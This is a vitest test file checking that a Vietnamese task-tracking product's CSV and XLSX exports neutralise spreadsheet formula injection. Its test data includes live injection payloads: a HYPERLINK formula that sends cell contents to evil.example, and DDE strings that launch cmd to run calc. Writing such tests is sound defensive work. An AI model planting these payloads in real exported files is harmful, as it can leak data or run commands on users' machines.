/**
 * Formula injection (issue #9 item 2): every CSV and XLSX the product writes is read back (csv-parse, exceljs) —
 * hostile text comes back as text, numbers as numbers, dates as dates. Through the admin export route and the open
 * data files.
 */
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { createTask } from '../domain/tasks.ts';
import { buildSnapshot } from '../publication/snapshot.ts';
import { writeSnapshotCsv, writeSnapshotXlsx } from '../publication/open-data.ts';
import { makeTestApp } from '../test/support/admin-app.ts';
import { looksLikeFormula, stringifyCsv } from './spreadsheet-cells.ts';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-2+3',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
];

function hostileWorld() {
  const t = makeTestApp({ start: '2026-03-02T02:00:00Z' });
  for (const title of HOSTILE) {
    const id = createTask(t.db, {
      title: 'x',
      leadAgencyId: t.agencies.a,
      assignedOn: '2026-01-05',
      deadline: '2026-02-15',
    });
    // stored as is (createTask trims, an API client or an old import may not have)
    t.db.prepare('UPDATE tasks SET title = ? WHERE id = ?').run(title, id);
  }
  return t;
}

function csvTable(text: string): string[][] {
  return parse(text.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];
}

describe('looksLikeFormula / stringifyCsv', () => {
  it('flags = + - @ tab CR (and full-width forms), not ordinary text or negative numbers', () => {
    for (const s of HOSTILE) expect(looksLikeFormula(s), s).toBe(true);
    for (const s of ['Sở Tài chính', '1147/UBND-KSTT', '2026-01-05', '', ' =1'])
      expect(looksLikeFormula(s)).toBe(false);
    const text = stringifyCsv([['=1+1', -5, 3.5, '-x', 'a']], { bom: false });
    expect(text).toBe("'=1+1,-5,3.5,'-x,a\r\n");
  });
});

describe('admin task export (app.request)', () => {
  it('CSV: hostile titles come back with a leading apostrophe, numbers and dates as plain values', async () => {
    const t = hostileWorld();
    const res = await t.get('/admin/tasks/export.csv?sort=code', await t.cookieFor('specialist'));
    expect(res.status).toBe(200);
    const rows = csvTable(await res.text());
    const header = rows[0]!;
    const titleCol = header.indexOf('Tên nhiệm vụ');
    const overdueCol = header.indexOf('Số ngày quá hạn');
    const assignedCol = header.indexOf('Ngày giao');
    const titles = rows.slice(1).map((r) => r[titleCol]!);
    for (const h of HOSTILE) expect(titles).toContain(`'${h}`);
    for (const title of titles) expect(looksLikeFormula(title), title).toBe(false);
    const hostileRow = rows.find((r) => r[titleCol] === `'${HOSTILE[0]}`)!;
    // deadline Sunday 15/02/2026 ends with Tết (16–20/02 off) on Monday 23/02: 7 days overdue on 02/03, a number, not "'7"
    expect(hostileRow[overdueCol]).toBe('7');
    expect(hostileRow[assignedCol]).toBe('05/01/2026');
  });

  it('XLSX: hostile titles are string cells in Text format, never formulas; numbers and dates stay typed', async () => {
    const t = hostileWorld();
    const res = await t.get('/admin/tasks/export.xlsx?sort=code', await t.cookieFor('specialist'));
    expect(res.status).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(await res.arrayBuffer());
    const ws = wb.getWorksheet('Nhiệm vụ')!;
    const header = (ws.getRow(1).values as unknown[]).slice(1);
    const col = (name: string) => header.indexOf(name) + 1;
    const seen: string[] = [];
    wb.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          expect(cell.formula).toBeUndefined();
          if (typeof cell.value === 'string' && looksLikeFormula(cell.value)) {
            expect(cell.type).toBe(ExcelJS.ValueType.String);
            expect(cell.numFmt).toBe('@');
          }
          if (typeof cell.value === 'string') seen.push(cell.value);
        }),
      ),
    );
    // exact text, no apostrophe added (XML reads a stored CR back as LF: still text, no longer formula-like)
    for (const h of HOSTILE) expect(seen).toContain(h.replace(/^\r/, '\n'));
    let hostileRows = 0;
    for (let r = 2; r <= ws.rowCount; r++) {
      const row = ws.getRow(r);
      if (!HOSTILE.includes(String(row.getCell(col('Tên nhiệm vụ')).value).replace(/^\n/, '\r'))) continue;
      hostileRows++;
      expect(row.getCell(col('Số ngày quá hạn')).value).toBe(7); // see the CSV case
      expect(row.getCell(col('Ngày giao')).value).toEqual(new Date('2026-01-05T00:00:00.000Z'));
      expect(row.getCell(col('Ngày giao')).numFmt).toBe('dd/mm/yyyy');
    }
    expect(hostileRows).toBe(HOSTILE.length);
  });
});

describe('open data files', () => {
  it('CSV and XLSX: hostile titles neutralised, counts are numbers, dates are dates', async () => {
    const t = hostileWorld();
    const snapshot = buildSnapshot(t.db, {
      period: '2026-02',
      asOf: '2026-02-28',
      revision: 1,
      note: '',
      publishedAt: '2026-03-01T01:00:00.000Z',
    });
    const dir = mkdtempSync(join(tmpdir(), 'open-data-'));
    await writeSnapshotCsv(snapshot, join(dir, 'nhiem-vu.csv'));
    await writeSnapshotXlsx(snapshot, join(dir, 'nhiem-vu.xlsx'));

    const rows = csvTable(readFileSync(join(dir, 'nhiem-vu.csv'), 'utf8'));
    const header = rows[0]!;
    const titles = rows.slice(1).map((r) => r[header.indexOf('ten_nhiem_vu')]!);
    for (const h of HOSTILE) expect(titles).toContain(`'${h}`);
    const hostileRow = rows.find((r) => r[header.indexOf('ten_nhiem_vu')] === `'${HOSTILE[3]}`)!;
    expect(hostileRow[header.indexOf('so_ngay_qua_han')]).toBe('5'); // the deadline moved past Tết to 23/02
    expect(hostileRow[header.indexOf('ngay_giao')]).toBe('2026-01-05');

    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(join(dir, 'nhiem-vu.xlsx'));
    const ws = wb.getWorksheet('Nhiem vu')!;
    const cols = (ws.getRow(1).values as unknown[]).slice(1);
    const col = (name: string) => cols.indexOf(name) + 1;
    const seen: string[] = [];
    for (let r = 2; r <= ws.rowCount; r++) {
      const row = ws.getRow(r);
      const title = row.getCell(col('ten_nhiem_vu'));
      expect(title.type).toBe(ExcelJS.ValueType.String);
      expect(title.formula).toBeUndefined();
      if (looksLikeFormula(String(title.value))) expect(title.numFmt).toBe('@');
      seen.push(String(title.value));
      expect(row.getCell(col('ky')).value).toBe('2026-02');
      expect(row.getCell(col('ngay_chot')).value).toEqual(new Date('2026-02-28T00:00:00.000Z'));
      if (!HOSTILE.includes(String(title.value).replace(/^\n/, '\r'))) continue;
      expect(row.getCell(col('so_ngay_qua_han')).value).toBe(5);
      expect(row.getCell(col('ngay_giao')).value).toEqual(new Date('2026-01-05T00:00:00.000Z'));
      expect(row.getCell(col('ngay_giao')).numFmt).toBe('yyyy-mm-dd');
    }
    for (const h of HOSTILE) expect(seen).toContain(h.replace(/^\r/, '\n'));
    const totals = wb.getWorksheet('Tong hop')!;
    expect(totals.getRow(2).getCell(2).value).toEqual(new Date('2026-02-28T00:00:00.000Z'));
    const labelled = (label: string) => {
      for (let r = 1; r <= totals.rowCount; r++) if (totals.getRow(r).getCell(1).value === label) return r;
      throw new Error(`no row ${label}`);
    };
    // the figures below the "Lũy kế" heading are numbers, not text
    expect(typeof totals.getRow(labelled('Lũy kế đến ngày chốt') + 1).getCell(2).value).toBe('number');
    expect(typeof totals.getRow(labelled('Bản')).getCell(2).value).toBe('number');
  });
});
